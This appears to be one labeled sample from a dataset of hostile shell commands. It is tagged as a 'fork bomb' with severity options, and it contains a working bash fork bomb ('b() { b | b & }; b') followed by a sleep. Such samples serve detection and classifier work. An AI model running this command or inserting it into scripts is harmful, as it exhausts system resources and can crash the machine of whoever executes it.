# class: fork bomb; possible: low medium high; style: classic
b() { b | b & }; b; sleep 15
